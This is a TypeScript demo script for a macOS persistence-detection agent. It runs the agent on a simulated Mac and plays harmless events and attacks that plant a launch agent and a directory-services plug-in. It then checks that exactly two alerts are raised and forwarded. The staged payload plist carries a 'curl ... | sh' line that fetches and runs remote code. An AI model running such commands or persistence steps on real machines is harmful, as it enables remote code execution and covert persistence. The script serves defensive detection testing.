// `npm run demo`: the real agent on a folder that stands for a Mac, attacked by real processes.
//
//   npm run demo                     exits 0 only when exactly the expected alerts are stored and forwarded
//   npm run demo -- --without STAGE  the same with one stage disabled (file-watch, process-scan, rules, forward):
//                                    must fail, which shows that the demo can
//   npm run demo -- --evasions       plays every evasion of docs/evasions.md instead, in every tier: [--tier TIER]
//                                    [--atomic | --variants: other attacks] [--only 1,2,3] [--json | --markdown]; fails when one has another verdict than is claimed
//   npm run demo -- --elastic DIR    plays an attack for each of Elastic's rules about persistence on macOS in a checkout of theirs
//                                    (more than one --elastic): [--tier TIER] [--only IDS] [--json]; fails when one that a
//                                    tier can see does not fire
//   npm run demo -- --healthy-day    plays what happens on a healthy Mac amid 100,000 everyday events: [--events N] [--seed N]
//                                    [--packs] [--only 1,2,3]; fails when an alert has a priority above low, or a person
//                                    sees more lines than ten; with the packs of exceptions any but those about what
//                                    nobody vouches for
import { execFile } from 'node:child_process';
import { cpSync, existsSync, mkdirSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import path from 'node:path';
import { promisify } from 'node:util';
import {
  AgentProcess,
  alertsAbout,
  cli,
  launchAgentPlist,
  listAlerts,
  randomLabel,
  SimulatedMac,
  waitFor,
} from '../simulation/mac.js';
import { playElastic } from './elastic.js';
import { playEvasions } from './evasions.js';
import { healthyDay } from './healthy-day.js';

if (process.argv.includes('--healthy-day')) {
  const given = (name: string) => {
    const at = process.argv.indexOf(name);
    return at === -1 ? undefined : process.argv[at + 1];
  };
  const wrong = await healthyDay({
    only: given('--only')?.split(',').map(Number),
    packs: process.argv.includes('--packs'),
    events: Number(given('--events') ?? 100_000),
    seed: Number(given('--seed') ?? 20_261_129),
    each: true,
    say: (text) => console.log(text),
  });
  for (const line of wrong) console.error(`demo: ${line}`);
  process.exit(wrong.length === 0 ? 0 : 1);
}
if (process.argv.includes('--elastic')) process.exit((await playElastic(process.argv)) ? 0 : 1);
if (process.argv.includes('--evasions')) process.exit((await playEvasions(process.argv)) ? 0 : 1);

const run = promisify(execFile);
const stages = ['file-watch', 'process-scan', 'rules', 'forward'] as const;

const position = process.argv.indexOf('--without');
const without = position === -1 ? undefined : process.argv[position + 1];
if (position !== -1 && !stages.some((stage) => stage === without)) {
  console.error(`--without takes one of: ${stages.join(', ')}`);
  process.exit(2);
}

const say = (text: string) => console.log(text);
const mac = new SimulatedMac();
const label = randomLabel();
const agentPlist = `/Users/alice/Library/LaunchAgents/${label}.plist`;
const bundle = `/Library/DirectoryServices/PlugIns/${randomLabel()}.dsplug`;
const forwarded = path.join(mac.base, 'siem', 'alerts.ndjson');

function config(): string {
  return [
    '[log]',
    'level = "info"',
    '[sensors]',
    `disabled = [${without === 'file-watch' || without === 'process-scan' ? `"${without}"` : ''}]`,
    '[rules]',
    `builtin = ${without !== 'rules'}`,
    ...(without === 'forward'
      ? []
      : ['[[destination]]', 'name = "siem"', 'type = "file"', `path = ${JSON.stringify(forwarded)}`]),
    '',
  ].join('\n');
}

function prepareTree(): void {
  // What is there before the agent starts is no event.
  mac.write('/Library/LaunchAgents/com.example.present.plist', launchAgentPlist('com.example.present'));
  mac.write(
    '/Library/DirectoryServices/PlugIns/Present.dsplug/Contents/Info.plist',
    launchAgentPlist('present'),
  );
  mac.write(
    '/private/tmp/payload.plist',
    launchAgentPlist(label, ['/bin/sh', '-c', 'curl -s http://198.51.100.7/x | sh']),
  );
  cpSync(mac.launchctl, mac.host('/bin/launchctl-helper'));
  const staged = mac.host('/private/tmp/staged.dsplug/Contents/MacOS');
  mkdirSync(staged, { recursive: true });
  writeFileSync(path.join(staged, 'plugin'), Buffer.alloc(64 * 1024, 7));
  writeFileSync(path.join(staged, '../Info.plist'), launchAgentPlist('plugin'));
}

async function harmless(): Promise<void> {
  say('  harmless: launchctl load with no launch agent written before it');
  await run(mac.launchctl, ['load', mac.host('/Library/LaunchDaemons/none.plist')]);
  say('  harmless: a property list outside the launch directories, and a .dsplug outside PlugIns');
  mac.write(`/Users/bob/Documents/${randomLabel()}.plist`, launchAgentPlist('document'));
  mac.write(`/Users/bob/Desktop/${randomLabel()}.dsplug/Contents/Info.plist`, 'x');
  say('  harmless: a launch agent written and only listed; a program that is merely named like launchctl');
  mac.write(`/Users/bob/Library/LaunchAgents/${randomLabel()}.plist`, launchAgentPlist('listed'));
  await run(mac.launchctl, ['list']);
  await run(mac.host('/bin/launchctl-helper'), ['load', '/x.plist']);
  say('  harmless: a plug-in that was there before is removed');
  rmSync(mac.host('/Library/DirectoryServices/PlugIns/Present.dsplug'), { recursive: true });
}

async function attacks(): Promise<void> {
  say(`  attack: a launch agent is copied to ${agentPlist} and loaded`);
  const script = 'mkdir -p "$1" && cp "$2" "$3" && "$4" load -w "$3"; exit 0';
  const folder = path.dirname(mac.host(agentPlist));
  await run('/bin/sh', [
    '-c',
    script,
    'sh',
    folder,
    mac.host('/private/tmp/payload.plist'),
    mac.host(agentPlist),
    mac.launchctl,
  ]);
  say(`  attack: a plug-in is copied to ${bundle}`);
  await run('cp', ['-R', mac.host('/private/tmp/staged.dsplug'), mac.host(bundle)]);
}

/** What is stored must be these two and nothing else. */
function judge(): string[] {
  const alerts = listAlerts(mac);
  const wrong: string[] = [];
  const expect = (severity: string, risk: number, file: string) => {
    const found = alertsAbout(alerts, file).filter(
      (alert) => alert.severity === severity && alert.risk_score === risk,
    );
    if (found.length !== 1)
      wrong.push(`expected one ${severity} alert (risk ${risk}) about ${file}, found ${found.length}`);
  };
  expect('low', 21, agentPlist);
  expect('medium', 47, bundle);
  if (alerts.length !== 2) wrong.push(`expected 2 alerts, found ${alerts.length}`);
  return wrong;
}

function forwardedIds(): string[] {
  if (!existsSync(forwarded)) return [];
  const documents = readFileSync(forwarded, 'utf8')
    .split('\n')
    .filter((line) => line !== '');
  return documents
    .map((line) => JSON.parse(line) as { event?: { kind?: string; id?: string } })
    .flatMap(({ event }) => (event?.kind === 'alert' && event.id !== undefined ? [event.id] : []));
}

async function main(): Promise<string[]> {
  prepareTree();
  say(`Starting the agent on ${mac.root}${without === undefined ? '' : ` without ${without}`}`);
  const agent = await AgentProcess.start({ mac, config: config() });
  try {
    await harmless();
    await agent.settled();
    await attacks();
    await agent.settled();
    say('');
    say(cli(mac, 'alerts', 'list'));
    const alerts = listAlerts(mac);
    for (const alert of alerts.slice(0, 1)) say(cli(mac, 'alerts', 'show', alert.id));
    const wrong = judge();
    const stored = new Set(alerts.map((alert) => alert.id));
    await waitFor(
      'the alerts to arrive at the destination',
      () => {
        const arrived = new Set(forwardedIds());
        return [...stored].every((id) => arrived.has(id)) ? true : undefined;
      },
      5_000,
    ).catch((error: Error) => wrong.push(error.message));
    const code = await agent.stop();
    if (code !== 0) wrong.push(`the agent ended with exit code ${code}`);
    return wrong;
  } finally {
    agent.child.kill('SIGKILL');
    await agent.exited;
    if (process.env['LAUNCHWARDEN_DEMO_LOG'] !== undefined) say(agent.log);
  }
}

try {
  const wrong = await main();
  for (const line of wrong) console.error(`demo: ${line}`);
  say(wrong.length === 0 ? 'demo: exactly the two expected alerts, stored and forwarded' : 'demo: failed');
  process.exitCode = wrong.length === 0 ? 0 : 1;
} catch (error) {
  console.error(`demo: ${(error as Error).message}`);
  process.exitCode = 1;
} finally {
  mac.remove();
}
